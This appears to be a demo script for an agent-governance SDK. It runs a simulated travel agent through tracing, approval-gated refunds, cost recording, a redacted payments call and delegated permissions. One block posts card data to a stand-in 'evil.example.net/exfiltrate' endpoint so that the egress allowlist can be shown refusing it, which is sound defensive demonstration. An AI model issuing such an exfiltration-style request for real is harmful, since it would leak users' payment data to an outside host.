"""The quickstart scenario, end to end: a governed travel agent.

    python samples/demo_agent.py                # against the embedded local platform
    TRACENGENT_URL=http://127.0.0.1:8080 python samples/demo_agent.py   # against `tracengent dev`
    python samples/demo_agent.py --interactive  # wait for a person: `tracengent approve <id>`

A trace with a step, a tool call and an LLM call under a token reservation; a refund above the
approval threshold that waits for a reviewer; a charge with a cost; a governed HTTP call allowed
with a redaction and one refused by the egress allowlist; a delegated hop to a second agent with
an attenuated token, and a widening attempt refused. The HTTP tool (a payments API) is simulated
in-process, so the demo needs no network; the platform is real.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import threading
import time

import httpx

from tracengent import (
    DelegationException,
    LlmCallResult,
    Money,
    ToolDeniedException,
    TracengentClient,
    TracengentOptions,
    governed_client,
)


def say(what: str) -> None:
    print(f"• {what}", flush=True)


def payments_api(request: httpx.Request) -> httpx.Response:
    """The payments tool: echoes what reached it, so the redaction is visible."""
    return httpx.Response(
        200, json={"id": "re_1", "received": json.loads(request.content or b"{}")}
    )


def reviewer(store: object, stop: threading.Event) -> None:
    """Against the embedded platform: a simulated person approves what waits, after a moment."""
    while not stop.wait(0.5):
        for approval in store.approvals("pending"):  # type: ignore[attr-defined]
            time.sleep(1.0)
            store.decide_approval(approval.approval_id, True)  # type: ignore[attr-defined]
            print(f"  (reviewer approved {approval.approval_id})", flush=True)


def main() -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--interactive", action="store_true", help="wait for `tracengent approve`")
    args = parser.parse_args()

    served = bool(os.environ.get("TRACENGENT_URL")) and os.environ["TRACENGENT_URL"] != "local"
    options = (
        TracengentOptions.from_env(agent_id="demo-agent", approval_poll_interval_s=0.5)
        if served
        else TracengentOptions.local(agent_id="demo-agent", approval_poll_interval_s=0.5)
    )
    if not options.client_id and not options.ingest_key:
        options.client_id, options.client_secret = "key_demo", "ags_demo"
    platform = None
    if not served:
        from tracengent.platform import embedded_platform

        platform = embedded_platform()
    print(
        f"Tracengent demo against {'the platform at ' + options.base_url if served else 'the embedded local platform'}"
    )

    stop = threading.Event()
    if platform is not None and not args.interactive:
        threading.Thread(target=reviewer, args=(platform.store, stop), daemon=True).start()

    with TracengentClient(options) as client:
        stripe = governed_client(
            client, inner=httpx.MockTransport(payments_api), base_url="https://api.stripe.com"
        )
        with client.begin_trace(
            "book a trip to Lisbon and refund the old one", actor_user_id="u_123"
        ) as trace:
            trace.step("decided to search flights first", attributes={"budget": "EUR 600"})
            flights = trace.track_tool_call(
                "search-flights", lambda: ["TP1351 LIS 09:40", "FR8354 LIS 13:05"]
            )
            say(f"tool call: found {len(flights)} flights")

            summary = trace.track_llm_call(
                "summarize-options",
                lambda: LlmCallResult("TP1351 is cheapest", tokens=912, model="gpt-4o-mini"),
                estimated_tokens=1000,
            )
            say(f"LLM call under a 1000-token reservation: {summary!r} (912 tokens used)")

            approval_hint = "a reviewer approves it in a moment"
            if args.interactive or platform is None:
                approval_hint = "run `tracengent approve <id>` (see `tracengent approvals`)"
            say(f"refund of EUR 400 is over the approval threshold: waiting, {approval_hint}")
            client.ensure_authorized("payments:refund", {"amount": 400, "currency": "EUR"})
            trace.track_action("refund-old-booking", lambda: "refunded", cost=Money.eur(400))
            say("refund approved and done")

            client.ensure_authorized("payments:charge", {"amount": 280, "currency": "EUR"})
            trace.track_action("charge-card", lambda: "charged", cost=Money.eur(280))
            say("charge of EUR 280 authorized and recorded with its cost")

            answer = stripe.post(
                "/v1/refunds",
                json={"amount": 120, "currency": "EUR", "card": "4242 4242 4242 4242"},
            )
            say(
                f"governed POST api.stripe.com/v1/refunds allowed; the tool received {answer.json()['received']}"
            )

            try:
                governed_client(client, inner=httpx.MockTransport(payments_api)).post(
                    "https://evil.example.net/exfiltrate", json={"card": "4242"}
                )
            except ToolDeniedException as denied:
                say(f"governed POST evil.example.net refused ({denied.outcome}): {denied.reason}")

            if platform is not None:
                _, token = platform.grant(
                    "demo-agent", ["hotels:*"], acting_for="u_123", max_amount=500
                )
            else:
                token = os.environ.get("TRACENGENT_DELEGATED_TOKEN", "")
            if token:
                session = client.begin_delegated_task(token)
                hotel = session.attenuate_for_call(
                    "agt_hotel", ["hotels:book"], max_amount=300, reason="book the hotel"
                )
                decision = hotel.authorize("hotels:book", {"amount": 180, "currency": "EUR"})
                say(
                    f"delegated hop to agt_hotel: hotels:book EUR 180 allowed={decision.allowed}, "
                    f"acting for {decision.acting_for}, chain {' → '.join(decision.chain or [])}"
                )
                try:
                    hotel.attenuate_for_call("agt_x", ["flights:book"])
                except DelegationException as refused:
                    say(f"widening refused: {refused}")
            else:
                say("delegation skipped: set TRACENGENT_DELEGATED_TOKEN (from `tracengent grant`)")
        stripe.close()
        client.flush(10)
    stop.set()

    print()
    if platform is not None:
        from tracengent.platform._timeline import render_timeline

        print(render_timeline(platform.store, trace.trace_id))
    else:
        print(f"timeline: tracengent trace {trace.trace_id}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
